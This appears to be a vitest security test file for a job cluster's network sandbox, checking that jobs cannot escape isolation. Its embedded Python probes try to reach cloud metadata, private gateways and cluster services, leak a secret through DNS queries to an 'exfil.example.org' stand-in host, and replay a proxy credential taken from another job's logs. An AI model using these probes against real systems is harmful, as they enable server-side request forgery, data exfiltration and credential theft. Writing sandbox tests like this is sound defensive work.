import { Network_Mode } from "@skrei/proto/skrei/job/v1/spec_pb.ts";
import { expect, test } from "vitest";
import { aShellJob, type JobParts } from "../kit/a-job.ts";
import { expectInvariants } from "../kit/invariants.ts";
import { aNetworkJob, useLabCluster } from "../kit/lab-cluster.ts";
import { ORIGIN_ADDRESS } from "../kit/lab.ts";

/** The harshest case: the operator lists every name and offers every mode. */
const under = useLabCluster({
  policy: { modes: ["none", "http", "full"], domains: ["*"] },
  prepare: (lab) =>
    lab.setZone({
      "allowed.example.com": [{ a: [ORIGIN_ADDRESS] }],
      "inside.example.com": [{ a: ["10.1.2.3"] }],
      "host.docker.internal": [{ a: ["10.211.0.1"] }],
    }),
  engineImages: ["skrei-clients:1"],
});
const DOMAINS = [".example.com", "host.docker.internal"];

/** Runs a Python program in a job and gives back the lines that it printed. */
async function linesOf(program: string, network?: JobParts["network"]): Promise<readonly string[]> {
  const { cluster } = under();
  const script = `timeout 60 python3 - <<'PYTHON' 2>&1\n${program}\nPYTHON`;
  const parts = network === undefined ? {} : { network };
  const jobId = await cluster.submit(aNetworkJob(script, { domains: DOMAINS, ...parts }));
  await cluster.waitForJob(jobId, "completed", { withinMs: 90_000 });
  const { stdout } = await cluster.runCli(["job", "logs", jobId]);
  return stdout.trimEnd().split("\n");
}

/** Addresses and ports that no job may reach but through the door: of the engine's bridges, the cluster, the host, and others. */
function forbiddenTargets(): readonly (readonly [string, number])[] {
  const { cluster } = under();
  const services = [cluster.scheduler, cluster.publisher, cluster.fetcher, cluster.proxy, cluster.nats, cluster.redis];
  return [
    ...[...GATEWAYS, ...PRIVATE_ADDRESSES].flatMap((address) =>
      [22, 53, 80, 1234, 2375, 4222, 6379].map((port) => [address, port] as const),
    ),
    ...services.flatMap(({ url }) => ["127.0.0.1", ...GATEWAYS].map((address) => [address, Number(new URL(url).port)] as const)),
  ];
}

/** Of the engine's default bridge, and of the first that is made from its pool. */
const GATEWAYS = ["10.211.0.1", "10.210.0.1"];
const PRIVATE_ADDRESSES = ["169.254.169.254", "10.1.2.3", "192.168.0.1", "172.17.0.1", "100.64.0.1"];
const PUBLIC_ADDRESSES = ["8.8.8.8", ORIGIN_ADDRESS];
const IPV6_ADDRESSES = ["fd00:ec2::254", "fe80::1", "2606:4700::1111", "64:ff9b::a9fe:a9fe"];

/** Tries them all by TCP and UDP and prints those that were reached. */
const attempts = (targets: readonly (readonly [string, number])[]): string => `
import json, socket, threading
reached = []
def attempt(address, port, kind):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as connection:
        connection.settimeout(1)
        try:
            connection.connect((address, port))
            connection.send(b"secret")
            if kind == socket.SOCK_STREAM:
                reached.append((address, port))
        except OSError:
            pass
threads = [threading.Thread(target=attempt, args=(address, port, kind))
    for address, port in json.loads('${JSON.stringify(targets)}') for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print("reached", sorted(set(reached)))
`;

const IMPORTS = "import errno, json, os, socket, sys, urllib.error, urllib.request";

test("a job has one network device, loopback, and no route", async () => {
  const program = `
print([line.split(":")[0].strip() for line in open("/proc/net/dev").read().strip().split("\\n")[2:]])
print(open("/proc/net/route").read().strip().split("\\n")[1:])
print([line for line in open("/proc/net/ipv6_route").read().strip().split("\\n") if line.split()[-1] != "lo"])`;
  expect(await linesOf(program)).toEqual(["['lo']", "[]", "[]"]);
});

test("gateways, metadata, the cluster's services, other machines and IPv6 cannot be reached past the door", async () => {
  const { lab } = under();
  const outside = [...PUBLIC_ADDRESSES, ...IPV6_ADDRESSES].map((address) => [address, 80] as const);
  expect(await linesOf(attempts([...forbiddenTargets(), ...outside]))).toEqual(["reached []"]);
  expect(await lab.takeSightings()).toEqual({ canaries: [], connections: [], requests: [], queries: {} });
});

test("a container of the engine that has a network reaches those canaries, so jobs would be seen too", async () => {
  const { lab, engine } = under();
  const program = attempts(forbiddenTargets());
  await engine?.docker("run", "--rm", "skrei-clients:1", "python3", "-c", program);
  const { canaries } = await lab.takeSightings();
  const seen = new Set(canaries.filter(({ bytes }) => bytes > 0).map(({ address, port }) => `${address}:${port}`));
  for (const address of [GATEWAYS[0], ...PRIVATE_ADDRESSES]) expect([...seen]).toContain(`${address}:80`);
});

test("the door leads to none of them either, though the operator lists every name", async () => {
  const { cluster, lab } = under();
  const hosts = [
    "169.254.169.254",
    "127.0.0.1",
    "10.1.2.3",
    "inside.example.com",
    "host.docker.internal",
    "localhost",
    "[::1]",
    "0x7f.1",
    "scheduler",
    "redis",
  ];
  const inner = [cluster.scheduler.url, cluster.proxy.url, cluster.nats.url, cluster.redis.url].map(
    (url) => `127.0.0.1:${new URL(url).port}`,
  );
  const urls = [
    ...hosts.flatMap((host) => [`http://${host}/`, `https://${host}/`, `http://${host}:6379/`]),
    ...inner.map((host) => `http://${host}/`),
  ];
  const lines = await linesOf(`${IMPORTS}
# As a hostile client does it: what no_proxy says is no matter to it.
proxies = urllib.request.ProxyHandler({"http": os.environ["http_proxy"], "https": os.environ["https_proxy"]})
del os.environ["no_proxy"], os.environ["NO_PROXY"]
opener = urllib.request.build_opener(proxies)
for url in json.loads('${JSON.stringify(urls)}'):
    try:
        print("reached", url, opener.open(url, timeout=5).status)
    except urllib.error.HTTPError as error:
        print("refused", error.code)
    except OSError as error:
        print("refused", next((code for code in ("400", "403") if code in str(error)), error))
`);
  expect(lines).toHaveLength(urls.length);
  expect(lines.filter((line) => !/^refused 40[03]$/u.test(line))).toEqual([]);
  const { canaries, connections } = await lab.takeSightings();
  expect({ canaries, connections }).toEqual({ canaries: [], connections: [] });
});

test("names are asked for by nobody but the door, and only names on the list", async () => {
  const { lab } = under();
  const secret = Math.random().toString(36).slice(2);
  const lines = await linesOf(`${IMPORTS}
name = "${secret}.exfil.example.org"
def attempt(what, act):
    try:
        act()
        print(what, "worked")
    except Exception as error:
        print(what, "failed")
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\x00\\x00\\x01\\x00\\x01"
def over(kind, address):
    with socket.socket(socket.AF_INET, kind) as connection:
        connection.settimeout(2)
        connection.connect((address, 53))
        connection.send(query)
        assert connection.recv(512)
attempt("libc", lambda: socket.getaddrinfo(name, 80))
for address in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "8.8.8.8"):
    attempt("udp", lambda: over(socket.SOCK_DGRAM, address))
    attempt("tcp", lambda: over(socket.SOCK_STREAM, address))
attempt("door", lambda: urllib.request.urlopen("http://" + name + "/", timeout=5))
attempt("tunnel", lambda: urllib.request.urlopen("https://" + name + "/", timeout=5))
`);
  expect(lines.every((line) => line.endsWith(" failed"))).toBe(true);
  expect(lines).toHaveLength(11);
  const { queries } = await lab.takeSightings();
  expect(Object.keys(queries).filter((name) => name.includes(secret))).toEqual([]);
});

test("a job can reach neither another job's loopback nor its door", async () => {
  const { cluster, lab } = under();
  const listener = `
import os, socket, time
server = socket.socket()
server.bind(("0.0.0.0", 8080))
server.listen()
print("door", os.environ["http_proxy"], flush=True)
connection, _ = server.accept()
print("heard", connection.recv(100), flush=True)`;
  const script = `exec python3 -u - <<'PYTHON'\n${listener}\nPYTHON`;
  const victim = await cluster.submit(aNetworkJob(script, { domains: [".example.com"] }));
  await cluster.runningExecution(victim);
  const logs = async (): Promise<string> => (await cluster.runCli(["job", "logs", victim])).stdout;
  await expect.poll(logs, { timeout: 20_000 }).toContain("door http://");
  const stolen = /door http:\/\/([^@]+)@/u.exec(await logs())?.[1] ?? "";
  expect(stolen).toMatch(/^e-[^:]+:.{40,}$/u);
  await lab.takeSightings();
  const lines = await linesOf(`${IMPORTS}
with socket.socket() as connection:
    connection.settimeout(2)
    print("loopback", connection.connect_ex(("127.0.0.1", 8080)) == errno.ECONNREFUSED)
proxies = urllib.request.ProxyHandler({"http": "http://${stolen}@127.0.0.1:3128"})
try:
    urllib.request.build_opener(proxies).open("http://allowed.example.com/", timeout=5)
except urllib.error.HTTPError as error:
    print("stolen", error.code)
print("sockets", [path for path in ("/doors", "/slot", "/var/run/docker.sock", "/run/docker.sock") if os.path.exists(path)])
print("abstract", [line.split()[-1] for line in open("/proc/net/unix").read().strip().split("\\n")[1:] if "@" in line])
`);
  expect(lines).toEqual(["loopback True", "stolen 407", "sockets []", "abstract []"]);
  expect(await logs()).not.toContain("heard");
  await cluster.runCli(["job", "stop", victim, "--wait"]);
  expect(await lab.takeSightings()).toMatchObject({ canaries: [], connections: [], queries: {} });
});

test("the secret of a job that has ended is worth nothing at another job's door", async () => {
  const { cluster } = under();
  const jobId = await cluster.submit(aNetworkJob("echo $http_proxy; curl -sS http://allowed.example.com/", { domains: [".example.com"] }));
  await cluster.waitForJob(jobId, "completed", { withinMs: 60_000 });
  const { stdout } = await cluster.runCli(["job", "logs", jobId]);
  expect(stdout).toContain("hello from allowed.example.com/");
  const [ended = ""] = stdout.split("\n");
  const lines = await linesOf(`${IMPORTS}
try:
    urllib.request.build_opener(urllib.request.ProxyHandler({"http": "${ended}"})).open("http://allowed.example.com/", timeout=5)
except urllib.error.HTTPError as error:
    print(error.code)
`);
  expect(lines).toEqual(["407"]);
});

const FULL = { mode: Network_Mode.FULL };

test("in mode full a job reaches public addresses by any port, and nothing else by any", async () => {
  const { lab } = under();
  const outside = [...PUBLIC_ADDRESSES.map((address) => [address, 80] as const), ["8.8.8.8", 22] as const];
  const [line] = await linesOf(
    attempts([...forbiddenTargets(), ...outside, ...IPV6_ADDRESSES.map((address) => [address, 80] as const)]),
    FULL,
  );
  expect(line).toBe(`reached [('8.8.8.8', 22), ('8.8.8.8', 80), ('${ORIGIN_ADDRESS}', 80)]`);
  const { canaries, connections } = await lab.takeSightings();
  expect([...new Set(canaries.map(({ address, port }) => `${address}:${port}`))].toSorted()).toEqual(["8.8.8.8:22", "8.8.8.8:80"]);
  expect(connections).toMatchObject([{ address: ORIGIN_ADDRESS, port: 80 }]);
});

test("in mode full names are looked up, and one that leads inside leads nowhere", async () => {
  const { cluster, lab } = under();
  const script =
    "unset http_proxy https_proxy; for name in allowed inside; do curl -sS --max-time 3 http://$name.example.com/; echo exit $?; done";
  const jobId = await cluster.submit(aShellJob(script, { image: "skrei-clients:1", network: FULL }));
  await cluster.waitForJob(jobId, "completed", { withinMs: 60_000 });
  expect((await cluster.runCli(["job", "logs", jobId])).stdout).toMatch(/^hello from allowed\.example\.com\/\nexit 0\nexit [1-9]\d*\n$/u);
  expect((await lab.takeSightings()).canaries).toEqual([]);
});

test("in mode full two jobs do not see each other", async () => {
  const { cluster } = under();
  const listener = `
import socket
server = socket.socket()
server.bind(("0.0.0.0", 8080))
server.listen()
print("at", [line.split()[1] for line in open("/proc/net/fib_trie").read().split("\\n") if "|-- 10.210." in line], flush=True)
connection, _ = server.accept()
print("heard", connection.recv(100), flush=True)`;
  const victim = await cluster.submit(aNetworkJob(`exec python3 -u - <<'PYTHON'\n${listener}\nPYTHON`, { domains: [], network: FULL }));
  const logs = async (): Promise<string> => (await cluster.runCli(["job", "logs", victim])).stdout;
  await cluster.runningExecution(victim);
  await expect.poll(logs, { timeout: 20_000 }).toContain("at [");
  const addresses = [...new Set((await logs()).match(/10\.210\.\d+\.\d+/gu))];
  expect(addresses).not.toEqual([]);
  const lines = await linesOf(attempts(addresses.map((address) => [address, 8080] as const)), FULL);
  expect(lines).toEqual(["reached []"]);
  expect(await logs()).not.toContain("heard");
  await cluster.runCli(["job", "stop", victim, "--wait"]);
});

test("leaves nothing of all that behind", async () => {
  await expectInvariants(under().cluster);
});
